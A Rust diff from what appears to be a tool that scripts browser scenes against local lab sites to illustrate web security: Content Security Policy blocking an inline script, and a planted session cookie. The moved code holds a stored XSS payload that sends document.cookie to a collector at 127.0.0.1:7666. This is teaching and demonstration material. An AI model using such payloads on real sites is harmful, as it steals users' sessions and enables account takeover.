@@ -26,11 +26,7 @@ async fn document_cookie(scene: &Scene<'_>) -> Result<Vec<u8>> {
 pub async fn csp_refused(scene: &Scene<'_>) -> Result<Vec<u8>> {
     let base = "http://localhost:7080/only-csp";
     scene.student_signs_in(base).await?;
-    scene.page.visit(&format!("{base}/board")).await?;
-    let steal = "<script>new Image().src='http://127.0.0.1:7666/collect?cookie='+\
-                 encodeURIComponent(document.cookie)</script>";
-    scene.page.fill_in("[name=text]", steal).await?;
-    scene.page.follow("main form button").await?;
+    post_once(scene, base).await?;
     let tools = scene.devtools(Panel::Console, SIZE).await?;
     scene.page.visit(&format!("{base}/board")).await?;
     let message = "one('.console-error-level', 'inline script')";
@@ -38,10 +34,29 @@ pub async fn csp_refused(scene: &Scene<'_>) -> Result<Vec<u8>> {
     tools.picture(&[message]).await
 }
 
+/// Posts the script, unless another walk has done so: the board keeps it.
+async fn post_once(scene: &Scene<'_>, base: &str) -> Result<()> {
+    let _alone = scene.alone().await;
+    scene.page.visit(&format!("{base}/board")).await?;
+    if scene
+        .page
+        .run("document.documentElement.innerHTML.includes('new Image')")
+        .await?
+    {
+        return Ok(());
+    }
+    let steal = "<script>new Image().src='http://127.0.0.1:7666/collect?cookie='+\
+                 encodeURIComponent(document.cookie)</script>";
+    scene.page.fill_in("[name=text]", steal).await?;
+    Ok(scene.page.follow("main form button").await?)
+}
+
 pub async fn planted_id(scene: &Scene<'_>) -> Result<Vec<u8>> {
     scene.page.visit(&format!("{INSECURE}/login")).await?;
     let tools = scene.devtools(Panel::Console, SIZE).await?;
-    tools.enter("document.cookie = \"session_insecure=1001; path=/\"").await?;
+    tools
+        .enter("document.cookie = \"session_insecure=1001; path=/\"")
+        .await?;
     tools.enter("document.cookie").await?;
     tools.picture(&["all('.console-message-wrapper')"]).await
 }
